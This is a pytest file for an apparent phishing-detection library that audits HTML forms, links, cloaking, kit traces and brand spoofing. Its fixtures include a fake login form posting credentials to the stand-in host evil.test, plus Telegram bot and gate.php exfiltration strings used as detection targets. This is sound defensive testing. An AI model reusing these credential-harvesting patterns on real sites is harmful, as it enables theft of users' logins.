from pyspark.sql import functions as F

from webwarden.functions import html as h

LOGIN = '<html><body><div><form action="https://evil.test/p" method="post"><input name="u"><input type="password" name="p"><button>x</button></form></div></body></html>'
PAGES = [
    (1, "bank.test", ["bank.test"], LOGIN), (2, "bank.test", ["bank.test", "evil.test"], LOGIN), (3, "bank.test", None, '<form action="#"><input type="password"></form>'),
    (4, "bank.test", None, '<a href="#">x</a><a href="javascript:void(0)"></a><a href="https://other.test/">paypal.com</a><a href="/in"><img src="x"></a>'),
    (5, "bank.test", None, '<iframe style="position: absolute"></iframe><x-pane></x-pane><div class="fake-browser" style="display:none" oncontextmenu="return false">h</div>'), (6, "bank.test", None, ""), (7, "bank.test", None, None),
]


def frames(spark):
    df = spark.createDataFrame(PAGES, "page_id bigint, host string, official array<string>, html string")
    return df, df.select("page_id", "host", "official")


def test_forms(spark):
    df, hosts = frames(spark)
    got = {r["page_id"]: r for r in h.form_audit(h.html_nodes(df, "page_id", "html"), hosts).collect()}
    assert got[1]["is_external"] and got[1]["has_password"] and got[1]["inputs"] == "u:text,p:password" and got[1]["method"] == "POST"
    assert not got[2]["is_external"] and got[3]["is_null_action"] and got[3]["target"] == "bank.test" and not got[3]["is_external"]


def test_links(spark):
    df, hosts = frames(spark)
    (r,) = h.link_audit(h.html_nodes(df, "page_id", "html"), hosts).collect()
    assert (r["links"], r["null_share"], r["internal_share"], r["external_share"], r["empty_share"]) == (4, 0.5, 0.25, 0.25, 0.25)


def test_flags(spark):
    df, _ = frames(spark)
    r = df.filter("page_id = 5").select(*[c.alias(k) for k, c in h.page_flags(F.col("html")).items()]).first().asDict()
    assert r == {"no_right_click": True, "no_selection": False, "popup": False, "fake_window": True, "shadow_dom": True, "hidden_text": True, "overlay": True}


def test_similarity(spark):
    other = "<html><body><ul>" + "<li>a</li>" * 20 + "</ul></body></html>"
    t = h.tag_sequence(F.col("m"))
    df = spark.createDataFrame([(LOGIN, LOGIN), (LOGIN, other), ("", "")], "m string, n string").select(t.alias("a"), h.tag_sequence(F.col("n")).alias("b"))
    fp = lambda c: h.simhash(h.ngrams(F.col(c), 2))
    got = [tuple(r) for r in df.select(h.jaccard(F.array_distinct("a"), F.array_distinct("b")), h.count_cosine(F.col("a"), F.col("b")), h.simhash_similarity(fp("a"), fp("b"))).collect()]
    assert [round(x, 9) for x in got[0]] == [1.0, 1.0, 1.0] and got[1][0] < 0.4 and got[1][1] < 0.4 and got[2] == (0.0, 0.0, 0.0)


def test_text_and_traces(spark):
    page = '<p>Hi​dden <b>t</b>ext</p><script>x</script><div style="display: none">no</div><!-- c --> https://api.telegram.org/bot12:ab/sendMessage "/x/gate.php" evilproxy cf-turnstile'
    r = spark.createDataFrame([(page,)], "m string").select(h.exfiltration(F.col("m")).alias("e"), h.kit(F.col("m")).alias("k"), h.cloaking(F.col("m")).alias("c"), h.bait(F.col("m")).alias("b")).first()
    assert len(r["e"]) == 2
    assert (r["k"]["kit"], r["k"]["bot_drop"], r["k"]["confidence"]) == ("EvilProxy", True, 0.95) and r["c"]["kind"] == "Cloudflare Turnstile / Managed Challenge" and r["c"]["is_bot_wall"] and r["b"] == "cloudflare"


def test_alignment_and_content(spark):
    a = lambda brand, shown, canon, page: h.alignment(F.lit("http://dhl-x.test"), F.lit(page), F.lit(brand), F.lit(shown), F.lit(canon))["type"]
    row = spark.range(1).select(a("dhl", "", False, "Google Search"), a("dhl", "", True, "Google Search"), a("", "paypal", False, ""), h.content_brand(F.lit("pay by PayPal invoice"), {"dhl": ["dhl", "parcel"], "paypal": ["paypal", "invoice"]})).first()
    assert tuple(row)[:3] == ("CLOAKING_CONTENT_SWAP", "MATCH", "SPOOFED_PORTAL") and tuple(row[3]) == ("paypal", 0.55)


def test_nodes_survive_odd_markup():
    assert h.nodes_of("</p><b><i></b>x<br/>&amp;<input>")[0][4] == "b"
    assert h.nodes_of("<" * 5000 + "a" * 5000) is not None


def test_tag_sequence_is_that_of_the_parser(spark):
    from webwarden.functions import documents as d

    odd = '<!-- <p> --><div><INPUT Type="Password" name=a><input name="type=x"><input data-type="y" type=email><input type=""><br><hr><svg><path d="m"/></svg><custom-tag>x</custom-tag></div>'
    got = [r[0] for r in spark.createDataFrame([(LOGIN,), (odd,)], "m string").select(h.tag_sequence(F.col("m"))).collect()]
    assert got == [d.layout_tags(d.Document(m)) for m in (LOGIN, odd)]
    assert got[1] == ["div", "input_password", "input_text", "input_email", "input_text", "br", "hr", "custom-tag"]
